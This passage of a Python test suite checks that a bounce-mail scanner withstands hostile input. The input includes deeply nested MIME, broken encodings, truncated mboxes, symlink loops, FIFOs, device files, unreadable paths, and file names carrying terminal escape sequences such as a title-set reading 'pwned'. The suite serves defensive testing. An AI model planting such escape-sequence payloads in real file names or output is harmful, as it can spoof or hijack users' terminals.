        "--BB--\n", "--BB\nContent-Type: message/rfc822\n\n" + nested_rfc822(200, full).decode()
        + "\n--BB--\n")
    write(os.path.join(tree, "carrier.eml"), carrier.encode())
    carrier2 = dsn("carrier2@example.com", msgid="carrier2").decode().replace(
        "--BB--\n", "--BB\n" + nested_multipart(200, "Content-Type: text/plain\n\nx\n").decode()
        .split("MIME-Version: 1.0\n", 1)[1] + "\n--BB--\n")
    write(os.path.join(tree, "carrier2.eml"), carrier2.encode())
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs), "the good bounce is read")
    rc = {r["recipient"] for r in recs}
    check("carrier@example.com" in rc and "carrier2@example.com" in rc,
          "bounces carrying a deep nest are read: %s / %s" % (sorted(rc), res.err[-1000:]))
    # past the 32 levels walked: a report part that deep is not read, and
    # the bounce-looking message is listed as not decoded, never dropped
    check("deep@example.com" not in rc, "nothing read 200 levels down: %s" % sorted(rc))
    named = {os.path.basename(u["source"]) for u in und}
    check({"multipart-200.eml", "multipart-5000.eml"} <= named,
          "deep multiparts listed as not decoded: %s" % sorted(named))
    write(os.path.join(tree, "multipart-20.eml"), nested_multipart(20, dsn_part))
    res = bounded(["dump", os.path.join(tree, "multipart-20.eml")])
    recs, und = res.records()
    check([r["recipient"] for r in recs] == ["deep@example.com"], "20 levels are read: %s" % recs)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "report: exit %d" % res.rc)


def b64_lines(data):
    enc = base64.b64encode(data).decode()
    return "\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def case_broken_encodings(tmp):
    """broken base64 and quoted-printable in the bounce's own parts"""
    tree = os.path.join(tmp, "mail")
    status = ("Reporting-MTA: dns; mail.example.jp\n\nFinal-Recipient: rfc822; %s\n"
              "Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n")

    def mk(name, rcpt, cte, payload):
        text = ("From: MAILER-DAEMON@mail.example.jp\nTo: taro@shop.example.jp\n"
                "Subject: Undelivered Mail Returned to Sender\nMIME-Version: 1.0\n"
                "Content-Type: multipart/report; report-type=delivery-status; boundary=\"Q\"\n\n"
                "--Q\nContent-Type: text/plain\n\nDelivery failed.\n\n"
                "--Q\nContent-Type: message/delivery-status\nContent-Transfer-Encoding: %s\n\n"
                "%s\n--Q--\n") % (cte, payload)
        write(os.path.join(tree, name), text.encode("latin-1"))

    good64 = b64_lines((status % "b64@example.com").encode())
    mk("b64-garbage.eml", "", "base64", good64[:40] + "!!*&^%$\x01\x7f" + good64[40:])
    mk("b64-no-padding.eml", "", "base64", good64.rstrip("="))
    mk("b64-cut.eml", "", "base64", good64[: len(good64) // 2 + 3])
    mk("b64-padding-middle.eml", "", "base64", "====\n" + good64 + "\n====AAAA====")
    mk("b64-not-at-all.eml", "", "base64", "\xff\xfe not base64 at all \x00 " * 100)
    mk("b64-huge-line.eml", "", "base64", base64.b64encode((status % "b64line@example.com").encode()
                                                           + b" " * 300000).decode())
    qp = (status % "qp@example.com").replace("\n", "=0A=\n")
    mk("qp-bad-escapes.eml", "", "quoted-printable", qp + "=ZZ=4=\n=G1==\xff=")
    mk("qp-soft-everywhere.eml", "", "quoted-printable",
       "=\n".join(status % "qpsoft@example.com") + "=")
    mk("qp-trailing-equals.eml", "", "quoted-printable", (status % "qpend@example.com") + "=" * 5000)
    mk("unknown-cte.eml", "", "x-rot13", status % "rot@example.com")
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs), "the good bounce is read")
    rc = {r["recipient"] for r in recs}
    for want in ("b64@example.com", "qp@example.com", "qpsoft@example.com", "qpend@example.com"):
        check(want in rc, "%s read through the broken encoding: %s" % (want, sorted(rc)))
    named = {os.path.basename(r["source"]) for r in recs} | {os.path.basename(u["source"]) for u in und}
    for f in os.listdir(tree):
        check(f in named or f in res.err or f == "good.eml",
              "%s: a clear outcome (a record, or named as not decoded/not a bounce): %s"
              % (f, res.err[-1500:]))


def case_cut_mbox(tmp):
    """an mbox cut in the middle of a header, a base64 part, a From_ line"""
    whole = dsn("whole@example.com", msgid="whole")
    b64 = report({"rcpt": "rfc822; cutb64@example.com"}).replace(
        b"Content-Type: text/plain\n\nYour message could not be delivered.",
        b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n"
        + b64_lines(b"x" * 3000).encode())
    tree = os.path.join(tmp, "mail")
    sep = b"From MAILER-DAEMON Wed Nov 25 10:00:05 2026\n"
    cuts = {
        "in-header.mbox": mbox([whole]) + sep + whole[:25],
        "in-base64.mbox": mbox([whole]) + sep + b64[: b64.index(b"eHh4") + 500],
        "in-from-line.mbox": mbox([whole]) + sep[:17],
        "in-boundary.mbox": mbox([whole]) + sep + whole[: whole.index(b"--BB--") + 3],
        "crlf-cut.mbox": mbox([whole]).replace(b"\n", b"\r\n") + sep + whole[:300].replace(b"\n", b"\r\n"),
    }
    for name, data in cuts.items():
        write(os.path.join(tree, name), data)
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs), "the good bounce is read")
    for name in cuts:
        src = os.path.join(tree, name)
        check(any(r["source"] == src and r["recipient"] == "whole@example.com" for r in recs),
              "%s: the whole message before the cut is read: %s" % (name, res.err[-1000:]))
    for name in ("in-header.mbox", "in-base64.mbox", "in-boundary.mbox"):
        check(name in res.err and "cut short" in res.err,
              "%s: the cut is named on stderr: %s" % (name, res.err[-1500:]))
    db = os.path.join(tmp, "cut.db")
    res = bounded(["scan", "--db", db, tree])
    check(res.rc in (0, 3), "scan: exit %d: %s" % (res.rc, res.err[-1000:]))


def case_empty(tmp):
    """empty files, files of blank lines, an mbox with only a From_ line, empty folders"""
    tree = os.path.join(tmp, "mail")
    write(os.path.join(tree, "empty.eml"), b"")
    write(os.path.join(tree, "blank.eml"), b"\n\n\r\n\n")
    write(os.path.join(tree, "spaces.eml"), b" " * 100)
    write(os.path.join(tree, "only-from.mbox"), b"From MAILER-DAEMON Wed Nov 25 10:00:05 2026\n")
    write(os.path.join(tree, "from-and-blank.mbox"), b"From MAILER-DAEMON Wed Nov 25 10:00:05 2026\n\n")
    write(os.path.join(tree, "headers-only.eml"), b"Subject: x\n")
    os.makedirs(os.path.join(tree, "empty-dir"))
    os.makedirs(os.path.join(tree, "maildir", "cur"))
    os.makedirs(os.path.join(tree, "maildir", "new"))
    good(tree)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    check(has_survivor(recs) and len(recs) == 1, "only the good bounce: %s" % recs)
    check("empty.eml" in res.err and "empty" in res.err, "the empty file is named: %s" % res.err)
    # each on its own: a clear error, exit 1, no crash
    for name in ("empty.eml", "blank.eml", "spaces.eml"):
        res = bounded(["dump", os.path.join(tree, name)])
        check(res.rc == 1 and name in res.err, "%s alone: exit %d: %s" % (name, res.rc, res.err))
    for name in ("only-from.mbox", "empty-dir", "maildir"):
        res = bounded(["dump", os.path.join(tree, name)])
        check(res.rc == 0 and res.out == b"", "%s alone: exit %d, nothing: %s" % (name, res.rc, res.err))
    res = bounded(["dump", "-"], stdin=b"")
    check(res.rc == 1 and "empty" in res.err, "empty stdin: exit %d: %s" % (res.rc, res.err))
    db = os.path.join(tmp, "e.db")
    res = bounded(["scan", "--db", db, os.path.join(tree, "empty-dir")])
    check(res.rc == 0, "scan of an empty folder: exit %d: %s" % (res.rc, res.err))
    res = bounded(["report", "--db", db, "--html", os.path.join(tmp, "e.html"),
                   "--csv", os.path.join(tmp, "ecsv")])
    check(res.rc == 0, "report of an empty history: exit %d: %s" % (res.rc, res.err))


def case_links(tmp):
    """symlink loops and links out of the tree: not followed by default; with
    --follow-links, loops end and nothing is read twice"""
    tree = os.path.join(tmp, "mail")
    outside = os.path.join(tmp, "outside")
    write(os.path.join(outside, "secret.eml"), dsn("outside@example.com", msgid="out"))
    good(tree)
    write(os.path.join(tree, "sub", "inner.eml"), dsn("inner@example.com", msgid="inner"))
    os.symlink("loop-b", os.path.join(tree, "loop-a"))
    os.symlink("loop-a", os.path.join(tree, "loop-b"))
    os.symlink("self", os.path.join(tree, "self"))
    os.symlink(".", os.path.join(tree, "sub", "dot"))
    os.symlink("..", os.path.join(tree, "sub", "up"))
    os.symlink(outside, os.path.join(tree, "out-dir"))
    os.symlink(os.path.join(outside, "secret.eml"), os.path.join(tree, "out-file.eml"))
    os.symlink("/nonexistent/nowhere.eml", os.path.join(tree, "dangling.eml"))
    before, before_out = tree_state(tree), tree_state(outside)
    res = bounded(["dump", tree])
    recs, und = res.records()
    check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
    rc = sorted(r["recipient"] for r in recs)
    check(rc == ["inner@example.com", "survivor@example.com"],
          "links not followed by default: %s" % rc)

    for name in ("loop-a", "self", "out-dir", "out-file.eml", "dangling.eml"):
        check(name in res.err, "%s named as a link not followed: %s" % (name, res.err))
    # a Maildir with links in cur/
    md = os.path.join(tmp, "Maildir")
    write(os.path.join(md, "cur", "1:2,S"), dsn("md@example.com", msgid="md"))
    os.symlink(os.path.join(outside, "secret.eml"), os.path.join(md, "cur", "2:2,S"))
    os.symlink("3:2,S", os.path.join(md, "cur", "3:2,S"))
    res = bounded(["dump", md])
    recs, und = res.records()
    check([r["recipient"] for r in recs] == ["md@example.com"], "maildir links: %s" % recs)
    # followed on request: the loops end, each message is read once
    res = bounded(["dump", "--follow-links", tree])
    recs, und = res.records()
    check(res.rc == 0, "--follow-links: exit %d: %s" % (res.rc, res.err[-2000:]))
    rc = sorted(r["recipient"] for r in recs)
    check(rc == ["inner@example.com", "outside@example.com", "survivor@example.com"],
          "--follow-links: every message once: %s" % rc)
    # a loop given as the path itself
    res = bounded(["dump", os.path.join(tree, "loop-a")])
    check(res.rc == 1 and "loop-a" in res.err, "a loop as the path: exit %d: %s" % (res.rc, res.err))
    # and the tree, the outside and the links are as they were
    db = tempfile.mktemp(suffix=".db", dir=os.path.dirname(tmp))
    try:
        res = bounded(["scan", "--follow-links", "--db", db, tree])
        check(res.rc in (0, 3), "scan --follow-links: exit %d: %s" % (res.rc, res.err[-800:]))
    finally:
        for f in glob.glob(db + "*"):
            os.unlink(f)
    unchanged(tree, before, "dump and scan --follow-links of links")
    unchanged(outside, before_out, "dump and scan --follow-links of links out of the tree")


def case_special_files(tmp):
    """FIFOs and device files: skipped without opening, never blocking"""
    tree = os.path.join(tmp, "mail")
    good(tree)
    os.mkfifo(os.path.join(tree, "fifo.eml"))      # nobody ever writes to it
    md = os.path.join(tree, "Maildir")
    write(os.path.join(md, "cur", "1:2,S"), dsn("md@example.com", msgid="md"))
    os.mkfifo(os.path.join(md, "cur", "2:2,S"))
    os.makedirs(os.path.join(md, "new"))
    os.mkfifo(os.path.join(md, "new", "3"))
    devs = []
    if AS_ROOT:
        # /dev/zero and /dev/urandom would never end; /dev/tty would block
        for name, (ma, mi) in (("zero.eml", (1, 5)), ("urandom.eml", (1, 9)), ("tty.eml", (5, 0))):
            try:
                os.mknod(os.path.join(tree, name), 0o666 | stat.S_IFCHR, os.makedev(ma, mi))
                devs.append(name)
            except OSError:
                pass
    os.symlink("/dev/zero", os.path.join(tree, "link-zero.eml"))
    os.symlink("fifo.eml", os.path.join(tree, "link-fifo.eml"))
    before = tree_state(tree)
    for follow in ([], ["--follow-links"]):
        res = bounded(["dump", *follow, tree], wall_s=20)
        recs, und = res.records()
        check(res.rc == 0, "dump %s: exit %d: %s" % (follow, res.rc, res.err[-2000:]))
        rc = sorted(r["recipient"] for r in recs)
        check(rc == ["md@example.com", "survivor@example.com"], "special files: %s" % rc)
        for name in ["fifo.eml", "2:2,S", "link-zero.eml"] + devs:
            check(name in res.err, "%s named as skipped: %s" % (name, res.err))
    # given as the path itself
    for p in [os.path.join(tree, "fifo.eml"), "/dev/zero", os.path.join(tree, "link-fifo.eml")]:
        res = bounded(["dump", p])
        check(res.rc == 1 and "FIFO" in res.err, "%s as the path: exit %d: %s" % (p, res.rc, res.err))
    db = os.path.join(tmp, "s.db")
    res = bounded(["scan", "--db", db, tree])
    check(res.rc in (0, 3), "scan: exit %d: %s" % (res.rc, res.err[-2000:]))
    unchanged(tree, before, "dump and scan of FIFOs and devices")


def case_unreadable(tmp):
    """unreadable files and folders (as nobody when run by root)"""
    if AS_ROOT:
        os.chmod(tmp, 0o755)
    tree = os.path.join(tmp, "mail")
    good(tree)
    write(os.path.join(tree, "locked.eml"), dsn("locked@example.com", msgid="l"))
    write(os.path.join(tree, "closed", "inside.eml"), dsn("closed@example.com", msgid="c"))
    write(os.path.join(tree, "listonly", "inside.eml"), dsn("listonly@example.com", msgid="lo"))
    write(os.path.join(tree, "noexec", "inside.eml"), dsn("noexec@example.com", msgid="nx"))
    md = os.path.join(tree, "Maildir")
    write(os.path.join(md, "cur", "1:2,S"), dsn("md@example.com", msgid="md"))
    write(os.path.join(md, "new", "2"), dsn("mdnew@example.com", msgid="mdn"))
    write(os.path.join(tree, "locked.mbox"), mbox([dsn("mbox@example.com", msgid="mb")]))
    os.makedirs(os.path.join(tmp, "db"))   # where the history goes: writable by the user
    if AS_ROOT:
        for root, dirs, files in os.walk(tmp):
            for n in dirs + files:
                os.chown(os.path.join(root, n), 65534, 65534)
    os.chmod(os.path.join(tree, "locked.eml"), 0)
    os.chmod(os.path.join(tree, "locked.mbox"), 0)
    os.chmod(os.path.join(tree, "closed"), 0)
    os.chmod(os.path.join(tree, "listonly"), 0o300)   # enter, not list
    os.chmod(os.path.join(tree, "noexec"), 0o600)     # list, not enter
    os.chmod(os.path.join(md, "new"), 0)
    try:
        res = bounded(["dump", tree], as_nobody=True)
        recs, und = res.records()
        check(res.rc == 0, "dump: exit %d: %s" % (res.rc, res.err[-2000:]))
        rc = sorted(r["recipient"] for r in recs)
        check(rc == ["md@example.com", "survivor@example.com"], "unreadable: %s" % rc)
        for name in ("locked.eml", "locked.mbox", "closed", "listonly", "noexec", "new"):
            check(name in res.err, "%s named: %s" % (name, res.err))
        check("Permission denied" in res.err, "the reason is given: %s" % res.err)
        res = bounded(["dump", os.path.join(tree, "closed")], as_nobody=True)
        check(res.rc == 1 and "Permission denied" in res.err, "closed folder as the path: %d %s"
              % (res.rc, res.err))
        res = bounded(["dump", os.path.join(tree, "locked.eml")], as_nobody=True)
        check(res.rc == 1 and "Permission denied" in res.err, "locked file as the path: %d %s"
              % (res.rc, res.err))
        db = os.path.join(tmp, "db", "u.db")
        res = bounded(["scan", "--db", db, tree], as_nobody=True)
        check(res.rc in (0, 3) and "paths skipped" in res.out.decode(),
              "scan: exit %d: %s %s" % (res.rc, res.out, res.err[-1000:]))
    finally:
        for p in (os.path.join(tree, "closed"), os.path.join(tree, "listonly"),
                  os.path.join(tree, "noexec"), os.path.join(md, "new")):
            os.chmod(p, 0o755)


def case_owner_only(tmp):
    """the history and the reports hold people's addresses: every file and
    folder bouncescan creates is the owner's only, whatever the umask"""
    tree = os.path.join(tmp, "mail")
    good(tree)
    write(os.path.join(tree, "b.eml"), report())
    out = os.path.join(tmp, "out")
    os.makedirs(out)
    db = os.path.join(out, "history.db")
    runs = [
        ["scan", "--db", db, tree],
        ["report", "--db", db, "--html", os.path.join(out, "r.html"),
         "--csv", os.path.join(out, "csv", "sub")],
        [tree, "-o", os.path.join(out, "adhoc", "x")],
    ]
    for args in runs:
        res = bounded(args, umask=0)
        check(res.rc in (0, 3), "bouncescan %s under umask 000: exit %d: %s"
              % (args[0], res.rc, res.err[-800:]))
    made = []
    for root, dirs, files in os.walk(out):
        for n in dirs + files:
            made.append(os.path.join(root, n))
    check(len(made) >= 18, "reports and history written: %s" % made)
    for p in made:
        mode = stat.S_IMODE(os.lstat(p).st_mode)
        check(mode & 0o077 == 0, "%s is open to others: %o" % (os.path.relpath(p, out), mode))


def case_terminal(tmp):
    """file names that would drive a terminal (ESC sequences, C1 controls)
    are shown with '?' in the messages on stderr"""
    tree = os.path.join(tmp, "mail")
    good(tree)
    esc = ["title-\x1b]0;pwned\x07.eml", "clear-\x1b[2J\x1b[31m.eml", "c1-\xc2\x9b31m.eml"]
    write(os.path.join(tree, esc[0]), b"\x7fELF binary")
    write(os.path.join(tree, esc[1]), b"")
    write(os.path.join(tree, esc[2]), b"From: MAILER-DAEMON@example.jp\nSubject: Undelivered Mail"
          b" Returned to Sender\nContent-Type: multipart/report; boundary=Z\n\n--Z\n"
          b"Content-Type: message/delivery-status\n\nAction: failed\n--Z--\n")
    for args in (["dump", tree], ["scan", "--db", os.path.join(tmp, "t.db"), tree]):
        res = bounded(args)
        check(res.rc in (0, 3), "%s: exit %d" % (args[0], res.rc))
        check("\x1b" not in res.err and "\x07" not in res.err and "\u009b" not in res.err,
              "%s: control characters reach the terminal: %r" % (args[0], res.err[-600:]))
        check("title-?]0;pwned?.eml" in res.err and "clear-?[2J?[31m.eml" in res.err,
              "%s: the names are shown with '?': %r" % (args[0], res.err[-600:]))
    # escape sequences inside the message (raw and in encoded words) never
    # reach explain's output: every field is cleaned of control characters
    e = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
    msg = os.path.join(tmp, "esc.eml")
    write(msg, report({"diag": "smtp; 550 5.1.1 " + e + " user unknown", "remote_mta": "dns; " + e,
                       "osubject": "=?utf-8?B?%s?=" % base64.b64encode(e.encode()).decode(),
                       "ofrom": e + " <taro@shop.example.jp>", "subject": e + "Undelivered"}))
    for lang in ("en", "ja"):
        res = bounded(["explain", "--lang", lang, msg])
        out = res.out.decode("utf-8", "replace")
        check(res.rc == 0 and "hanako@example.com" in out, "explain: exit %d: %s" % (res.rc, res.err))
        check("\x1b" not in out and "\x07" not in out and "\u009b" not in out,
              "explain --lang %s prints control characters: %r" % (lang, out[:400]))


CASES = [
    case_owner_only,
    case_terminal,
    case_markup, case_csv_formulas, case_nul_bytes, case_bad_utf8, case_huge_header,
    case_many_recipients, case_huge_files, case_deep_nesting, case_broken_encodings, case_cut_mbox, case_empty,
    case_links, case_special_files, case_unreadable,
]


def main():
    only = sys.argv[1:]
    failed = []
    for case in CASES:
        if only and case.__name__ not in only and case.__name__[5:] not in only:
            continue
        tmp = tempfile.mkdtemp(prefix="bs-hostile-")
        n0 = len(MEASURED)
        try:
            case(tmp)
            worst = max(MEASURED[n0:], key=lambda m: m[2], default=("", 0, 0))
            slow = max((m[1] for m in MEASURED[n0:]), default=0)
            print("ok %s (%d runs, slowest %.2f s, peak RSS %.0f MB)"
                  % (case.__name__[5:], len(MEASURED) - n0, slow, worst[2]))
        except Failure as e:
            failed.append(case.__name__)
            print("FAIL %s: %s" % (case.__name__[5:], e))
        except Exception:  # noqa: BLE001 - a broken case is a failure, and the rest still run
            failed.append(case.__name__)
            print("FAIL %s:\n%s" % (case.__name__[5:], traceback.format_exc()))
        finally:
            for root, dirs, files in os.walk(tmp):
                for n in dirs:
                    p = os.path.join(root, n)
                    if not os.path.islink(p):
                        os.chmod(p, 0o755)
            shutil.rmtree(tmp, ignore_errors=True)
    sys.stdout.flush()
    if failed:
        sys.stderr.write("FAIL: %s\n" % ", ".join(failed))
        sys.exit(1)
    print("ok")


if __name__ == "__main__":
    main()
